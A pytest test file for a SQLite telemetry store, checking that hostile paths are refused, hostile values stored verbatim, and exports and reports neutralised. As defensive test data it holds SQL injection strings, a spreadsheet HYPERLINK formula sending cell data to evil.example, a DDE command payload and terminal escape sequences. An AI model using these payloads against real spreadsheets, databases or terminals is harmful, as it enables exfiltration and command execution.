"""Hostile paths are refused and left untouched; hostile values are stored
verbatim; every valid record round-trips and every invalid one writes
nothing (property-based)."""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import os
import pwd
import re
import shutil
import sqlite3
import stat
import sys
import tempfile
import traceback
import warnings
from pathlib import Path
from typing import Any, Callable, Dict, Iterator, List, Optional, Tuple

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from support import SEED_DDL, minimal

from telemetry_orm import (
    FIELD_NAMES,
    DatabaseError,
    PeeweeTelemetryStore,
    TelemetryError,
    TelemetryRecord,
    TelemetryValidationError,
    create_telemetry_store,
    open_readonly,
)
from telemetry_orm.cli import main as cli_main
from telemetry_orm.exports import read_export
from telemetry_orm.formats import EXPORT_FORMATS, write_export
from telemetry_orm.imports import Item
from telemetry_orm.record import MAX_COST_USD, MAX_COUNT
from telemetry_orm.schema import COLUMN_NAMES

# -- helpers -----------------------------------------------------------------------


def snapshot(folder: Path) -> Dict[str, Optional[str]]:
    """Every entry of ``folder``: name -> sha256 of a file's bytes (None
    for anything else)."""
    return {
        p.name: hashlib.sha256(p.read_bytes()).hexdigest() if p.is_file() else None
        for p in sorted(folder.iterdir())
    }


def refused(path: Path, *expected: str) -> DatabaseError:
    """Assert opening ``path`` raises a DatabaseError naming the path and
    every ``expected`` text, and changes nothing in its folder."""
    folder = next(p for p in path.parents if p.is_dir())
    before = snapshot(folder)
    with pytest.raises(TelemetryError) as caught:
        create_telemetry_store(path)
    assert isinstance(caught.value, DatabaseError)
    message = str(caught.value)
    assert str(path) in message
    for text in expected:
        assert text in message
    assert snapshot(folder) == before
    return caught.value


# -- 5. hostile paths --------------------------------------------------------------


def test_a_directory_is_refused(tmp_path: Path) -> None:
    target = tmp_path / "folder.db"
    target.mkdir()
    (target / "inside.txt").write_text("keep me")
    refused(target, "is a directory")
    assert snapshot(target) == {"inside.txt": hashlib.sha256(b"keep me").hexdigest()}


@pytest.mark.parametrize("content", [
    pytest.param(b"telemetry\n" * 500, id="text"),
    pytest.param(bytes(range(256)) * 64, id="binary"),
    pytest.param(b"\x7fELF\x02\x01\x01" + os.urandom(9000), id="random"),
    pytest.param(b"SQLite format 3\x00" + b"\xff" * 4096, id="sqlite-header-then-garbage"),
])
def test_a_file_that_is_not_a_database_is_refused_untouched(tmp_path: Path,
                                                            content: bytes) -> None:
    target = tmp_path / "telemetry.db"
    target.write_bytes(content)
    error = refused(target)
    if not content.startswith(b"SQLite"):
        assert "not a SQLite database" in str(error)
    assert target.read_bytes() == content


def test_an_empty_file_is_taken_as_a_new_database(tmp_path: Path) -> None:
    target = tmp_path / "telemetry.db"
    target.touch()
    with create_telemetry_store(target) as store:
        assert store.record(minimal()) == 1


def _foreign_tables() -> List[Any]:
    cases = []
    for column in ("id", "created_at", "repo", "event_type", "model", "conclusion"):
        # The original DDL without that column (nor an index on it).
        ddl = "\n".join(line for line in SEED_DDL.splitlines()
                        if not line.strip().startswith(f"{column} ")
                        and f"({column})" not in line)
        cases.append(pytest.param(ddl, [column], id=f"without-{column}"))
    cases.append(pytest.param(
        "CREATE TABLE executions (job TEXT, started REAL, host TEXT);"
        "INSERT INTO executions VALUES ('nightly', 1.5, 'ci-1');",
        ["id", "created_at", "repo", "event_type", "model", "conclusion"], id="other-table"))
    return cases


@pytest.mark.parametrize("wal", [False, True], ids=["rollback-journal", "wal"])
@pytest.mark.parametrize(("ddl", "missing"), _foreign_tables())
def test_a_foreign_executions_table_is_refused_untouched(
        tmp_path: Path, ddl: str, missing: List[str], wal: bool) -> None:
    target = tmp_path / "other.db"
    conn = sqlite3.connect(target)
    if wal:
        conn.execute("PRAGMA journal_mode = WAL")
    conn.executescript(ddl)
    conn.close()
    master = "SELECT type, name, sql FROM sqlite_master ORDER BY name"
    conn = sqlite3.connect(target)
    schema_before = conn.execute(master).fetchall()
    conn.close()

    error = refused(target, "not a telemetry table", ", ".join(missing))

    assert "executions" in str(error)
    conn = sqlite3.connect(target)
    assert conn.execute(master).fetchall() == schema_before
    conn.close()


def test_a_path_below_a_regular_file_is_refused(tmp_path: Path) -> None:
    blocker = tmp_path / "not-a-folder"
    blocker.write_text("a file where a folder should be")
    refused(blocker / "sub" / "telemetry.db", "is not a folder")
    assert blocker.read_text() == "a file where a folder should be"


def test_a_dangling_symlink_is_refused_and_its_target_not_created(tmp_path: Path) -> None:
    link = tmp_path / "telemetry.db"
    link.symlink_to(tmp_path / "elsewhere" / "real.db")
    refused(link, "symbolic link")
    assert not (tmp_path / "elsewhere").exists()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs os.mkfifo")
def test_a_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
    fifo = tmp_path / "telemetry.db"
    os.mkfifo(fifo)
    refused(fifo, "not a regular file")


# Unreadable and read-only locations. Tests usually run as root, for whom
# permission bits mean nothing; the store is then opened in a forked child
# that has switched to the user "nobody", so the operating system really
# refuses. Run as an ordinary user, the checks run in-process.


@pytest.fixture
def shared_dir() -> Iterator[Path]:
    """A folder outside pytest's private (mode 700) tree, reachable by all."""
    folder = Path(tempfile.mkdtemp(prefix="telemetry-perms-"))
    folder.chmod(0o755)
    yield folder
    for path in (folder, *folder.rglob("*")):
        if not path.is_symlink():
            path.chmod(0o755 if path.is_dir() else 0o644)
    shutil.rmtree(folder)


def _open_unprivileged(path: Path) -> str:
    """Open a store on ``path`` as an unprivileged user; return "opened" or
    the error's class name and message."""

    def attempt() -> str:
        try:
            create_telemetry_store(path).close()
            return "opened"
        except TelemetryError as exc:
            return f"{type(exc).__name__}: {exc}"

    return _unprivileged(attempt, path)


def _unprivileged(attempt: Callable[[], str], path: Path) -> str:
    """Run ``attempt`` as the user nobody (when running as root; else as
    oneself); return what it returns."""
    if os.geteuid() != 0:
        return attempt()
    if os.environ.get("FAKETIME"):
        # A child forked while another thread is inside libfaketime can wait
        # on its lock for ever; the runs without faketime cover this.
        pytest.skip("forks to drop privileges, which libfaketime does not survive")
    try:
        nobody = pwd.getpwnam("nobody")
    except KeyError:
        pytest.skip("runs as root and there is no user 'nobody' to drop to")
    read_end, write_end = os.pipe()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        pid = os.fork()
    if pid == 0:  # pragma: no cover - runs in the child
        try:
            try:
                os.setgroups([])
                os.setgid(nobody.pw_gid)
                os.setuid(nobody.pw_uid)
            except OSError as exc:
                result = f"SKIP: cannot switch to user nobody ({exc})"
            else:
                if not os.access(path.parent.parent, os.X_OK):
                    result = f"SKIP: user nobody cannot reach {path.parent.parent}"
                else:
                    result = attempt()
        except BaseException:
            result = f"CRASH: {traceback.format_exc()}"
        os.write(write_end, result.encode())
        os._exit(0)
    os.close(write_end)
    with os.fdopen(read_end, "rb") as pipe:
        result = pipe.read().decode()
    os.waitpid(pid, 0)
    if result.startswith("SKIP: "):
        pytest.skip(result[6:])
    return result


def _make_store_file(path: Path) -> None:
    with create_telemetry_store(path) as store:
        store.record(minimal())


def _unreadable(folder: Path) -> Path:
    path = folder / "sub" / "telemetry.db"
    _make_store_file(path)
    path.chmod(0)
    return path


def _read_only(folder: Path) -> Path:
    path = folder / "sub" / "telemetry.db"
    _make_store_file(path)
    path.chmod(0o444)
    return path


def _new_file_in_read_only_folder(folder: Path) -> Path:
    (folder / "sub").mkdir()
    (folder / "sub").chmod(0o555)
    return folder / "sub" / "telemetry.db"


def _existing_file_in_read_only_folder(folder: Path) -> Path:
    path = folder / "sub" / "telemetry.db"
    _make_store_file(path)
    path.chmod(0o666)
    path.parent.chmod(0o555)
    return path


def _new_folder_in_read_only_folder(folder: Path) -> Path:
    (folder / "sub").mkdir()
    (folder / "sub").chmod(0o555)
    return folder / "sub" / "new" / "telemetry.db"


def _readable_snapshot(folder: Path) -> Dict[str, Optional[str]]:
    """``snapshot`` of a folder whose files may have had their read
    permission taken away (given back first; only bytes are compared)."""
    folder.chmod(0o755)
    for path in folder.iterdir():
        if path.is_file():
            path.chmod(path.stat().st_mode | stat.S_IRUSR)
    return snapshot(folder)


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs os.fork")
@pytest.mark.parametrize(("make", "expected"), [
    (_unreadable, "cannot be read"),
    (_read_only, "is read-only"),
    (_new_file_in_read_only_folder, "is not writable"),
    (_existing_file_in_read_only_folder, "is not writable"),
    (_new_folder_in_read_only_folder, "cannot create its folder"),
], ids=["unreadable-file", "read-only-file", "new-file-in-read-only-folder",
        "existing-file-in-read-only-folder", "new-folder-in-read-only-folder"])
def test_an_unreadable_or_read_only_location_is_refused_untouched(
        shared_dir: Path, make: Callable[[Path], Path], expected: str) -> None:
    path = make(shared_dir)
    sub = shared_dir / "sub"
    modes = {p: p.stat().st_mode for p in (sub, *sub.iterdir())}
    before = _readable_snapshot(sub)
    for p, mode in modes.items():
        p.chmod(mode)

    result = _open_unprivileged(path)

    assert result.startswith("DatabaseError: "), result
    assert str(path) in result and expected in result, result
    assert _readable_snapshot(sub) == before


# -- 11. hostile values ------------------------------------------------------------

HOSTILE_TEXT = [
    "'; DROP TABLE executions; --",
    'Robert"); DELETE FROM executions WHERE ("1"="1',
    "a\x00b",
    "\x00",
    "🤖🔥👩‍👩‍👧‍👦",
    "\u202eevil\u202c",
    "? ?1 :name @name $name %s {}",
    "back\\slash\nnew\rline\ttab",
    "ünïcödé ñ 中文 العربية",
    "x" * 100_000,
]

TEXT_FIELDS = ("delivery_id", "repo", "event_type", "provider", "model", "conclusion",
               "session_id", "stop_reason")


@pytest.mark.parametrize("value", HOSTILE_TEXT,
                         ids=lambda v: repr(v)[:30] if len(v) < 1000 else "huge")
def test_hostile_text_is_stored_verbatim(store: PeeweeTelemetryStore,
                                         witness: sqlite3.Connection, value: str) -> None:
    master = witness.execute("SELECT sql FROM sqlite_master ORDER BY name").fetchall()
    row_id = store.record(minimal(**{name: value for name in TEXT_FIELDS}))
    row = witness.execute(
        f"SELECT {', '.join(TEXT_FIELDS)} FROM executions WHERE id = ?", (row_id,)
    ).fetchone()
    assert tuple(row) == (value,) * len(TEXT_FIELDS)
    assert witness.execute("SELECT COUNT(*) FROM executions").fetchone()[0] == 1
    assert witness.execute("SELECT sql FROM sqlite_master ORDER BY name").fetchall() == master


def test_a_huge_value_is_stored_verbatim(store: PeeweeTelemetryStore,
                                         witness: sqlite3.Connection) -> None:
    huge = ("🤖 ünïcödé\x00'\"; " * 300_000)[:3_000_000]
    row_id = store.record(minimal(session_id=huge, input_tokens=MAX_COUNT,
                                  cost_usd=MAX_COST_USD))
    row = witness.execute("SELECT session_id, input_tokens, cost_usd FROM executions "
                          "WHERE id = ?", (row_id,)).fetchone()
    assert tuple(row) == (huge, MAX_COUNT, MAX_COST_USD)


# -- 11. property-based round trips ------------------------------------------------

MAX_INT = 2**63 - 1
text = st.text(max_size=40)
required_text = st.text(min_size=1, max_size=40)
optional_text = st.none() | text
count = st.integers(0, MAX_COUNT) | st.integers(0, 10_000)
cost = (st.floats(min_value=0, max_value=MAX_COST_USD, allow_nan=False)
        | st.integers(0, int(MAX_COST_USD)))

valid_records = st.builds(
    TelemetryRecord,
    delivery_id=optional_text, repo=required_text, pr_number=st.none() | st.integers(1, MAX_INT),
    event_type=required_text, provider=required_text, model=required_text,
    input_tokens=count, output_tokens=count, cache_read_tokens=count,
    cache_creation_tokens=count, duration_ms=count, cost_usd=cost, conclusion=required_text,
    session_id=optional_text, num_turns=st.none() | count, stop_reason=optional_text,
)

surrogate_text = st.tuples(
    text, st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF), text
).map("".join)
not_text = st.sampled_from([0, 1.5, b"bytes", ["list"], {"a": 1}, True])
not_integer = st.sampled_from([1.0, 2.5, "12", b"1", True, False, [1]])
too_big = st.integers(MAX_INT + 1, 2**80)
past_bound = st.integers(MAX_COUNT + 1, 2**80)

_REQUIRED_TEXT_BAD = st.just("") | not_text | surrogate_text | st.none()
_PROVIDER_BAD = st.just("") | not_text | surrogate_text  # None means "the default"
_OPTIONAL_TEXT_BAD = not_text | surrogate_text
_COUNT_BAD = st.integers(max_value=-1) | past_bound | not_integer
_PR_BAD = st.integers(max_value=0) | too_big | not_integer
_COST_BAD = (st.floats(max_value=-1e-300) | st.sampled_from([float("nan"), float("inf"),
                                                             float("-inf"), "0.5", True])
             | st.integers(2**53 + 1, 2**70) | st.integers(max_value=-1)
             | st.floats(min_value=MAX_COST_USD, exclude_min=True, allow_nan=False)
             | st.integers(int(MAX_COST_USD) + 1, 2**53))

INVALID: Dict[str, Any] = {
    "delivery_id": _OPTIONAL_TEXT_BAD, "repo": _REQUIRED_TEXT_BAD, "pr_number": _PR_BAD,
    "event_type": _REQUIRED_TEXT_BAD, "provider": _PROVIDER_BAD,
    "model": _REQUIRED_TEXT_BAD, "input_tokens": _COUNT_BAD, "output_tokens": _COUNT_BAD,
    "cache_read_tokens": _COUNT_BAD, "cache_creation_tokens": _COUNT_BAD,
    "duration_ms": _COUNT_BAD, "cost_usd": _COST_BAD, "conclusion": _REQUIRED_TEXT_BAD,
    "session_id": _OPTIONAL_TEXT_BAD, "num_turns": _COUNT_BAD, "stop_reason": _OPTIONAL_TEXT_BAD,
}


def test_every_field_has_invalid_values_to_try() -> None:
    assert set(INVALID) == set(FIELD_NAMES)


PROPERTY_SETTINGS = settings(
    max_examples=60, deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@PROPERTY_SETTINGS
@given(record=valid_records)
def test_every_valid_record_round_trips_exactly(store: PeeweeTelemetryStore,
                                                witness: sqlite3.Connection,
                                                record: TelemetryRecord) -> None:
    row_id = store.record(record)
    row = witness.execute(f"SELECT {', '.join(FIELD_NAMES)} FROM executions WHERE id = ?",
                          (row_id,)).fetchone()
    assert tuple(row) == record.as_row()
    for name, stored in zip(FIELD_NAMES, row, strict=True):
        expected = getattr(record, name)
        assert type(stored) is (float if name == "cost_usd" else type(expected)), name
    # A mapping with the same values stores the same row.
    again = store.record(record.as_dict())
    assert tuple(witness.execute(f"SELECT {', '.join(FIELD_NAMES)} FROM executions "
                                 "WHERE id = ?", (again,)).fetchone()) == record.as_row()


@PROPERTY_SETTINGS
@given(data=st.data(), record=valid_records, name=st.sampled_from(FIELD_NAMES))
def test_every_invalid_record_is_refused_and_writes_nothing(
        store: PeeweeTelemetryStore, witness: sqlite3.Connection, data: st.DataObject,
        record: TelemetryRecord, name: str) -> None:
    bad = data.draw(INVALID[name], label=name)
    entry = record.as_dict()
    entry[name] = bad
    before = witness.execute("SELECT COUNT(*), MAX(id) FROM executions").fetchone()

    with pytest.raises(TelemetryValidationError) as caught:
        store.record(entry)
    assert caught.value.field == name
    with pytest.raises(TelemetryValidationError):
        TelemetryRecord(**entry)

    assert witness.execute("SELECT COUNT(*), MAX(id) FROM executions").fetchone() == before


@pytest.mark.parametrize(("name", "value", "expected"), [
    ("input_tokens", 2**63, "<= 10**12"),
    ("pr_number", 2**64, "<= 2**63 - 1"),
    ("num_turns", 10**5000, "integer of 16610 bits"),
    ("cost_usd", 2**53 + 1, "at most 2**53"),
    ("cost_usd", -(10**400), "at most 2**53"),
    ("repo", "acme/\ud800api", "lone surrogate at position 5"),
    ("stop_reason", "\udfff", "lone surrogate"),
], ids=["int64+1", "pr-2**64", "huge-int", "cost-2**53+1", "cost-negative-huge",
        "surrogate", "lone-low-surrogate"])
def test_values_sqlite_cannot_store_exactly_are_refused_clearly(
        store: PeeweeTelemetryStore, witness: sqlite3.Connection, name: str, value: Any,
        expected: str) -> None:
    with pytest.raises(TelemetryValidationError) as caught:
        store.record(minimal(**{name: value}))
    assert caught.value.field == name and expected in str(caught.value)
    assert witness.execute("SELECT COUNT(*) FROM executions").fetchone()[0] == 0


# -- reads and dry runs never change a byte ------------------------------------------


def _cli(*argv: str) -> Tuple[int, str]:
    """Run the command line in-process; (status, stderr) with stdout discarded."""
    import contextlib
    import io

    err = io.StringIO()
    with contextlib.redirect_stderr(err):
        status = cli_main(list(argv), out=io.StringIO())
    return status, err.getvalue()


def _other_application(path: Path) -> None:
    conn = sqlite3.connect(path)
    conn.execute("CREATE TABLE settings (key TEXT PRIMARY KEY, value TEXT)")
    conn.execute("INSERT INTO settings VALUES ('theme', 'dark')")
    conn.commit()
    conn.close()


def _rollback_journal_telemetry(path: Path) -> None:
    conn = sqlite3.connect(path)  # the original's table, never switched to WAL
    conn.executescript(SEED_DDL)
    conn.close()


def _empty(path: Path) -> None:
    path.write_bytes(b"")


def _a_view(path: Path) -> None:
    conn = sqlite3.connect(path)
    conn.executescript("CREATE TABLE runs (id INTEGER PRIMARY KEY, created_at TEXT, repo TEXT, "
                       "event_type TEXT, model TEXT, conclusion TEXT);"
                       "CREATE VIEW executions AS SELECT * FROM runs;")
    conn.close()


@pytest.mark.parametrize("make", [_other_application, _rollback_journal_telemetry, _empty,
                                  _a_view], ids=["other-app", "rollback-journal", "empty",
                                                 "view"])
@pytest.mark.parametrize("argv", [["purge", "--days", "30", "--dry-run"], ["report"],
                                  ["stats"], ["export"]], ids=["dry-run", "report", "stats",
                                                               "export"])
def test_reads_and_dry_runs_never_change_a_byte(
        tmp_path: Path, make: Callable[[Path], None], argv: List[str]) -> None:
    path = tmp_path / "db" / "file.db"
    path.parent.mkdir()
    make(path)
    before = snapshot(path.parent)
    status, err = _cli(*argv, "--db", str(path))
    after = snapshot(path.parent)
    # Only what a reader of a rollback-journal file may leave: nothing at all.
    assert after == before, (status, err)
    if make is not _rollback_journal_telemetry:
        assert status == 1 and str(path) in err, err


def test_a_view_named_executions_is_refused_before_the_switch_to_wal(tmp_path: Path) -> None:
    path = tmp_path / "view.db"
    _a_view(path)
    before = snapshot(tmp_path)
    error = refused(path, "is a view")
    assert "executions" in str(error)
    assert snapshot(tmp_path) == before
    conn = sqlite3.connect(path)
    assert conn.execute("PRAGMA journal_mode").fetchone()[0] == "delete"
    conn.close()


def test_a_newer_schema_is_refused_by_every_read(tmp_path: Path) -> None:
    path = tmp_path / "newer.db"
    with create_telemetry_store(path) as store:
        store.record(minimal())
    conn = sqlite3.connect(path)
    conn.execute("PRAGMA user_version = 99")
    conn.close()
    for argv in (["report"], ["stats"], ["export"], ["purge", "--days", "1", "--dry-run"]):
        status, err = _cli(*argv, "--db", str(path))
        assert status == 1 and "schema version 99 is newer" in err, (argv, err)
    with pytest.raises(DatabaseError, match="newer"):
        open_readonly(path)


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs os.fork")
def test_a_read_by_another_user_never_locks_the_owner_out(shared_dir: Path) -> None:
    shared_dir.chmod(0o777)  # a folder everyone may write to
    path = shared_dir / "telemetry.db"
    _make_store_file(path)
    path.chmod(0o644)
    before = snapshot(shared_dir)

    def report_as_other() -> str:
        status, err = _cli("report", "--db", str(path))
        return f"{status}: {err}"

    result = _unprivileged(report_as_other, path)
    if os.geteuid() == 0:
        # As another user: refused, in one line, nothing created.
        assert result.startswith("1: ") and "owner" in result and result.count("\n") == 1, result
        assert snapshot(shared_dir) == before
    with create_telemetry_store(path) as store:  # the owner still writes
        store.record(minimal())


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs os.fork")
def test_a_read_in_a_read_only_folder_says_why_and_creates_nothing(shared_dir: Path) -> None:
    folder = shared_dir / "ro"
    folder.mkdir()
    path = folder / "telemetry.db"
    _make_store_file(path)
    path.chmod(0o644)
    folder.chmod(0o555)
    before = snapshot(folder)

    def report() -> str:
        status, err = _cli("report", "--db", str(path))
        return f"{status}: {err}"

    result = _unprivileged(report, path)
    assert result.startswith("1: ") and "its folder is read-only" in result, result
    assert result.count("\n") == 1
    assert snapshot(folder) == before


# -- outputs that must not act on their reader ---------------------------------------

#: Text a spreadsheet runs as a formula (or would after the first character).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00")
#: What a terminal or a Markdown table must never receive raw from the data.
RAW_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u061c\u200e\u200f"
                         "\u202a-\u202e\u2066-\u2069]")

# Python before 3.11 cannot write or read a NUL in CSV at all.
_CSV_NUL = sys.version_info >= (3, 11)
csv_safe_text = (st.text(max_size=30) if _CSV_NUL
                 else st.text(st.characters(blacklist_categories=("Cs",),
                                            blacklist_characters="\x00"), max_size=30))
spreadsheet_text = st.tuples(
    st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "\n", "'", "''", "'=", "'\t", "\r\n",
                     *(["\x00"] if _CSV_NUL else [])]),
    csv_safe_text,
).map("".join)
some_text = spreadsheet_text.filter(bool)

spreadsheet_records = st.builds(
    TelemetryRecord,
    delivery_id=st.none() | some_text, repo=some_text,
    pr_number=st.none() | st.integers(1, MAX_INT),
    event_type=some_text, provider=some_text, model=some_text,
    input_tokens=count, output_tokens=count, cache_read_tokens=count,
    cache_creation_tokens=count, duration_ms=count, cost_usd=cost, conclusion=some_text,
    session_id=st.none() | some_text, num_turns=st.none() | count,
    stop_reason=st.none() | some_text,
)


@settings(max_examples=200, deadline=None)
@given(record=spreadsheet_records)
def test_any_text_survives_a_csv_export_and_import_exactly_and_starts_no_formula(
        record: TelemetryRecord) -> None:
    # As a store returns it: cost_usd is a REAL column.
    row = (7, "2026-05-01 12:00:00",
           *(float(v) if name == "cost_usd" else v for name, v in record.as_dict().items()))
    with tempfile.TemporaryDirectory() as folder:
        files = {fmt: Path(folder) / f"a.{fmt}" for fmt in EXPORT_FORMATS}
        for fmt, path in files.items():
            with open(path, "w", newline="", encoding="utf-8") as out:
                write_export(COLUMN_NAMES, [row], fmt, out)
        with open(files["csv"], newline="", encoding="utf-8") as handle:
            header, cells = list(csv.reader(handle))
        read = {fmt: list(read_export([path], fmt)) for fmt, path in files.items()}
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert all(isinstance(item, Item) for items in read.values() for item in items), read
    (from_csv,), (from_jsonl,) = read["csv"], read["jsonl"]
    assert from_csv.record == record == from_jsonl.record
    # The two exports of one store give the same keys (importing both adds nothing twice).
    assert from_csv.key == from_jsonl.key


HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0",
                 "+1+2", "-2+3", "@SUM(1)", "\t=1", "\r=1", "'=quoted", "'", "plain"]
WHEN = ("--since", "2026-04-01", "--until", "2026-06-01")


def _place_at(path: Path, rows: List[Dict[str, Any]]) -> None:
    """Record ``rows`` and date them 2026-05-01 (through sqlite3)."""
    with create_telemetry_store(path) as store:
        ids = [store.record(minimal(**row)) for row in rows]
    conn = sqlite3.connect(path)
    with conn:
        conn.executemany("UPDATE executions SET created_at = ? WHERE id = ?",
                         [(f"2026-05-01 {n % 24:02d}:00:00", i) for n, i in enumerate(ids)])
    conn.close()


def _run(*argv: str) -> Tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stderr(err):
        status = cli_main(list(argv), out=out)
    return status, out.getvalue(), err.getvalue()


def _rows(path: Path) -> List[Tuple[Any, ...]]:
    conn = sqlite3.connect(path)
    try:
        return sorted(conn.execute(f"SELECT created_at, {', '.join(FIELD_NAMES)} "
                                   "FROM executions").fetchall(), key=repr)
    finally:
        conn.close()


def test_csv_exports_and_reports_guard_formulas_and_import_undoes_it(tmp_path: Path) -> None:
    source = tmp_path / "a.db"
    _place_at(source, [dict(repo=name, model=name, event_type=name, session_id=name,
                            stop_reason=name, delivery_id=name, provider=name,
                            conclusion=name, cost_usd=1.5) for name in HOSTILE_NAMES])
    exported = {fmt: tmp_path / f"a.{fmt}" for fmt in EXPORT_FORMATS}
    for fmt, path in exported.items():
        assert _run("export", "--db", str(source), "--format", fmt, "--out", str(path))[0] == 0
    with open(exported["csv"], newline="", encoding="utf-8") as handle:
        header, *table = list(csv.reader(handle))
    text_columns = [header.index(name) for name in TEXT_FIELDS]
    for cells in table:
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], cells
        name = HOSTILE_NAMES[[c[header.index("repo")] for c in table].index(
            cells[header.index("repo")])]
        guarded = "'" + name if name.startswith((*FORMULA_STARTS, "'")) else name
        assert {cells[i] for i in text_columns} == {guarded}
    status, text, _ = _run("report", "--db", str(source), *WHEN, "--by", "repo", "--by", "model",
                           "--format", "csv")
    assert status == 0
    report_rows = list(csv.reader(io.StringIO(text, newline="")))[1:]
    assert len(report_rows) == len(HOSTILE_NAMES)
    assert not [c for row in report_rows for c in row if c.startswith(FORMULA_STARTS)]
    # Import undoes it: the same rows, and the JSON Lines export adds nothing more.
    target = tmp_path / "b.db"
    status, text, _ = _run("import", "csv", str(exported["csv"]), "--db", str(target))
    assert status == 0 and f"{len(HOSTILE_NAMES)} imported" in text, text
    assert _rows(target) == _rows(source)
    status, text, _ = _run("import", "jsonl", str(exported["jsonl"]), "--db", str(target))
    assert status == 0 and "0 imported" in text, text


ATTACK_NAMES = ["\x1b]0;owned\x07", "\x1b[2J\x1b[H", "evil\nTOTAL                 999",
                "rtl\u202etxt.exe", "c1\x9b31m", "line\u2028sep", "del\x7f"]


def _no_raw_control(text: str) -> None:
    found = RAW_CONTROL.search(text)
    assert found is None, (found, text)


def test_tables_markdown_charts_and_lists_show_names_escaped(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "t.db"
    _place_at(path, [dict(repo=name, model=name, cost_usd=2.0) for name in ATTACK_NAMES])
    monkeypatch.delenv("COLUMNS", raising=False)
    for columns in (None, "80"):
        if columns:
            monkeypatch.setenv("COLUMNS", columns)
        for argv in (["--by", "repo", "--by", "model"], ["--format", "markdown"],
                     ["--chart"], ["--by", "model", "--cost", "calculated"]):
            status, text, err = _run("report", "--db", str(path), *WHEN, *argv)
            assert status == 0, err
            _no_raw_control(text)
            lines = text.split("\n")
            if "--format" not in argv:  # the table: one totals line, one line a group
                assert [line for line in lines if line.startswith("TOTAL")] == [
                    next(line for line in lines if line.startswith("TOTAL"))]
                rule = next(i for i, line in enumerate(lines) if line and set(line) <= {"-", " "})
                total = next(i for i, line in enumerate(lines) if line.startswith("TOTAL"))
                assert total - rule - 2 == len(ATTACK_NAMES)
            assert "\\x1b]0;owned\\x07" in text or "\\x1b]0;owned\\x…" in text
    status, text, _ = _run("prices", "--db", str(path))
    assert status == 0 and "\\x1b[2J\\x1b[H" in text
    _no_raw_control(text)


def test_import_summaries_and_error_lines_show_names_escaped(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    bad = folder / "evil\x1b[2J\nTOTAL 999.csv"
    bad.write_text("not,an,export\n1,2,3\n", encoding="utf-8")
    status, text, err = _run("import", "csv", str(folder), "--db", str(tmp_path / "t.db"))
    _no_raw_control(text + err)
    assert "evil\\x1b[2J\\nTOTAL 999.csv" in text, text
    status, text, err = _run("stats", "--db", str(tmp_path / "no\x1b[31mne.db"))
    assert status == 1 and err.count("\n") == 1 and "no\\x1b[31mne.db" in err, err
    _no_raw_control(err)


def test_stats_show_a_foreign_time_text_escaped(tmp_path: Path) -> None:
    path = tmp_path / "t.db"
    _place_at(path, [{}])
    conn = sqlite3.connect(path)
    with conn:  # written by another program: any text
        conn.execute("UPDATE executions SET created_at = '2026-05-01 00:00:00\x1b[2J'")
    conn.close()
    status, text, err = _run("stats", "--db", str(path))
    assert status == 0, err
    _no_raw_control(text)
    assert "2026-05-01 00:00:00\\x1b[2J" in text
